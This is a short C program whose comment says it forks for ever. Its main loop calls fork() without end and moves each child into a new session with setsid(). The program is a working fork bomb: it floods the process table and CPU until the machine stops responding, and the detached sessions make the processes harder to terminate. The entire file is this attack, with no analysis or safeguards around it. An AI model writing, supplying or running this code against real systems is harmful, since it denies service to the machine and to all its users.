// Forks for ever, in sessions of their own.
#include <unistd.h>

int main(void) {
    for (;;)
        if (fork() == 0) setsid();
}
